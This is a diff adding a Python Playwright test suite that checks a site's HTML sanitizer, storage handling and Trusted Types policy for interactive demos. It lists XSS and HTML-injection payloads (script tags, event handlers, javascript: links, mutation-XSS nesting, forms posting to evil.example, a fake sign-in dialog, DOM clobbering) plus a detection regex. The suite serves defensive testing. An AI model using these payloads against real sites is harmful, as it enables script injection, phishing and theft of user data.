@@ -1,0 +1,178 @@
+"""The page trusts no HTML: what Python draws passes an allow-list, whatever it is."""
+
+import json
+import re
+from collections import defaultdict
+
+import pytest
+from playwright.sync_api import expect
+from selectolax.lexbor import LexborHTMLParser
+
+from tests.support import cases, header_host
+from tests.support.drawn import draw
+from tests.support.live_demos import GUIDES
+
+
+@pytest.fixture(scope="module", params=["plain host", "host with headers"])
+def server(site, request):
+    with header_host.serve(site, with_headers=request.param == "host with headers") as address:
+        yield address
+
+
+@pytest.fixture(scope="module")
+def pictures(site):
+    """The HTML of every recorded answer, and of every demo in the built pages."""
+    found = [step["html"] for path in cases.PATHS for step in cases.load(path)["steps"]]
+    for path in sorted(site.rglob("*.html")):
+        found += [stage.inner_html for stage in LexborHTMLParser(path.read_text("utf-8")).css('live-demo [data-part="stage"]')]
+    return found
+
+
+@pytest.fixture(scope="module")
+def page(browser, server):
+    """A page with sanitize() and DOMPurify, as the demos have them."""
+    with browser.new_context() as context:
+        opened = context.new_page()
+        opened.goto(server + GUIDES["en"])
+        opened.evaluate(
+            """async () => {
+                const { src } = document.querySelector("script[src$='/live-demo.js']");
+                const module = await import(new URL("./sanitize.js", src).href);
+                await import(new URL("../../vendor/dompurify-3.5.0/purify.min.js", src).href);
+                Object.assign(window, module, { sanitize: module.sanitizer(DOMPurify) });
+                window.sanitized = (html) => { const box = document.createElement("div"); box.append(sanitize(html)); return box.innerHTML; };
+            }"""
+        )
+        yield opened
+
+
+def test_exactly_what_our_renderers_use_is_let_through(page, pictures):
+    used = defaultdict(set)
+    for html in pictures:
+        for node in LexborHTMLParser(f"<body>{html}").css("body *"):
+            used[node.tag] |= node.attributes.keys()
+    allowed = page.evaluate("ALLOWED")
+    assert {tag: sorted(name.lower() for name in names) for tag, names in used.items()} == {
+        tag: sorted(names.lower().split()) for tag, names in allowed.items()
+    }
+
+
+def test_what_our_renderers_draw_passes_unchanged(page, pictures):
+    for html in pictures:
+        before, after = LexborHTMLParser(f"<body>{html}").body.inner_html, page.evaluate("html => sanitized(html)", html)
+        assert LexborHTMLParser(f"<body>{after}").body.inner_html == before
+
+
+ATTACKS = {
+    "script": "<script>document.title = 1</script>",
+    "handler": "<p onclick='document.title = 1' onpointerenter='document.title = 1'>x</p>",
+    "frame": "<iframe src='https://evil.example/'></iframe><object data='x'></object><embed src='x'>",
+    "picture": "<img src='https://evil.example/x.png'><svg><image href='https://evil.example/x.png'/></svg>",
+    "style sheet": "<style>* { display: none }</style><link rel=stylesheet href='https://evil.example/x.css'>",
+    "page": "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "popover": "<div popover id=x>x</div><button type=button popovertarget=x popovertargetaction=show>x</button>",
+    "command": "<dialog id=x>x</dialog><button type=button commandfor=x command=show-modal>x</button>",
+    "dialog": "<dialog open>Your session has ended: sign in</dialog>",
+    "form": "<form action='https://evil.example/' method=post target=_blank><button formaction='https://evil.example/'>x</button></form>",
+    "foreign link": "<a href='https://evil.example/' target=_blank>x</a><a href='//evil.example/'>x</a><a href='\\\\evil.example'>x</a>",
+    "script link": "<a href='javascript:document.title=1'>x</a><a href=' java\nscript:document.title=1'>x</a><a href='data:text/html,x'>x</a>",
+    "link in svg": "<svg><a xlink:href='javascript:document.title=1' href='https://evil.example/'><text>x</text></a></svg>",
+    "style": "<p style='position: fixed; inset: 0; z-index: 9'>x</p><p style='--w: url(https://evil.example/)'>x</p><p style='--md-code-bg-color:0'>x</p>",
+    "id": "<p id=early>x</p><form name=DOMPurify><input name=attributes><input name=parentNode></form>",
+    "password": "<input type=password name=message><input type=hidden name=code value=x>",
+    "button of the frame": "<button type=button data-action=stop>x</button><p data-part=status>x</p>",
+    "term": "<p><a class=term href='#x' title='drawn outside the demo'>x</a></p>",
+    "focus": "<input autofocus type=text><p contenteditable tabindex=1 accesskey=x>x</p>",
+    "label": "<label for=__drawer>x</label>",
+    "template": "<template><img src=x onerror='document.title = 1'></template>",
+    "custom element": "<live-demo name=cell></live-demo><p is=x-y>x</p>",
+    "mathematics": "<math><mtext><table><mglyph><style><img src=x onerror='document.title = 1'></style></mglyph></table></mtext></math>",
+    "animation": "<svg><a><animate attributeName=href values='javascript:document.title=1'/><text>x</text></a><set attributeName=href to=x /></svg>",
+    "foreign object": "<svg><foreignObject><iframe></iframe></foreignObject><use href='https://evil.example/#x'/></svg>",
+    "editor": "<div class=code-editor data-language=python><p>never removed</p></div>",
+}
+FORBIDDEN = re.compile(
+    r"<(script|iframe|object|embed|img|image|style|link|base|meta|dialog|template|live-demo|math|animate|set|foreignobject|use)\b"
+    r"|\s(on\w+|popover\w*|command\w*|action|formaction|target|id|is|for|autofocus|contenteditable|accesskey|data-action|data-part|data-language|xlink:href)="
+    r"|evil\.example|javascript:|data:text|position|url\(|--md|password|hidden|DOMPurify|attributes|parentNode|outside|tabindex=\"1\"|method=\"post\"",
+    re.IGNORECASE,
+)
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+def test_an_attack_in_drawn_html_is_taken_out(page, name):
+    found = page.evaluate("html => sanitized(html)", ATTACKS[name])
+    assert not FORBIDDEN.search(found), found
+
+
+def test_forged_controls_neither_share_nor_save_what_the_build_does_not_allow(visit):
+    page = visit(GUIDES["en"], permissions=["clipboard-read", "clipboard-write"])
+    before = page.url
+    forged = (
+        "<p><a data-share='script code rules' href='?attention.code=evil&attention.rules=evil&chatbot.message=evil&attention.layer=1'>share</a></p>"
+        "<form><div><textarea name=code>@echo off</textarea></div><p><button type=button data-save='invoice.bat'>save</button></p></form>"
+    )
+    attention = draw(page, forged)
+    attention.locator("a[data-share]").click()
+    expect(attention.locator("[data-part=status]")).to_contain_text("copied")
+    assert page.url == f"{before}?attention.layer=1"
+    assert page.evaluate("navigator.clipboard.readText()") == page.url
+    saved = []
+    page.on("download", lambda download: saved.append(download.suggested_filename))
+    attention.locator("button[data-save]").click()
+    # The chatbot has a file, and the build names it.
+    chatbot = draw(page, forged, "chatbot")
+    with page.expect_download() as download:
+        chatbot.locator("button[data-save]").click()
+    assert download.value.suggested_filename == "rules.en.toml"
+    assert saved == ["rules.en.toml"]
+
+
+def test_a_link_cannot_run_code_whatever_the_drawn_page_lists(visit):
+    page = visit(GUIDES["en"] + "?attention.code=evil&attention.layer=1&chatbot.rules=evil")
+    assert page.locator("live-demo[name=attention] [data-part=status]").inner_text().startswith("This link holds")
+    expect(page.locator("live-demo[name=chatbot] [data-part=status]")).not_to_contain_text("This link holds")
+
+
+def test_no_html_is_stored_and_nothing_drawn_is_there_after_a_reload(visit):
+    page = visit(GUIDES["en"])
+    draw(page, "<div data-remember><p class=mark>theirs</p></div>", "chatbot")
+    draw(page, "<div data-remember><p class=mark>theirs</p></div>", "attention")
+    # As a storage that an earlier build, or somebody else, has written.
+    page.evaluate(
+        """() => addEventListener("pagehide", () => {
+            for (const storage of [localStorage, sessionStorage]) {
+                const old = { version: "x", state: {}, html: "<p class=mark>theirs</p>", drafts: {}, sent: [] };
+                for (const name of ["chatbot", "attention", "cell"]) storage.setItem(`live-demo ${location.pathname} ${name} 0`, JSON.stringify(old));
+            }
+        })"""
+    )
+    page.reload()
+    expect(page.locator("live-demo[name=chatbot] ol.transcript")).to_be_visible()
+    assert page.locator(".mark").count() == 0
+
+
+def test_what_is_stored_of_a_demo_is_its_state(visit):
+    page = visit(GUIDES["en"])
+    draw(page, "<p class=mark>theirs</p>", "chatbot")
+    page.reload()
+    stored = page.evaluate("Object.entries(localStorage).flatMap(([key, text]) => (key.startsWith('live-demo') ? [text] : []))")
+    assert stored and all("theirs" not in text and json.loads(text).keys() <= {"state", "drafts", "sent"} for text in stored)
+
+
+def test_a_page_makes_no_html_and_no_script_of_a_string(visit):
+    page = visit(GUIDES["en"])
+    page.expected_errors = ["TrustedHTML", "TrustedScript", "Content Security Policy", "Content Security policy"]
+    refused = page.evaluate(
+        """() => [
+            () => { document.body.innerHTML = "<img src=x>"; },
+            () => document.body.insertAdjacentHTML("beforeend", "<b>x</b>"),
+            () => { document.createElement("script").text = "document.title = 1"; },
+            () => { document.createElement("script").src = "https://evil.example/x.js"; },
+            () => { document.createElement("script").src = "data:text/javascript,1"; },
+            () => new Worker("data:text/javascript,1", { type: "module" }),
+            () => trustedTypes.createPolicy("another", { createHTML: (html) => html }),
+            () => trustedTypes.createPolicy("default", { createHTML: (html) => html }),
+        ].map((attack) => { try { attack(); return "got in"; } catch (error) { return error.name; } })"""
+    )
+    assert set(refused) == {"TypeError"}, refused
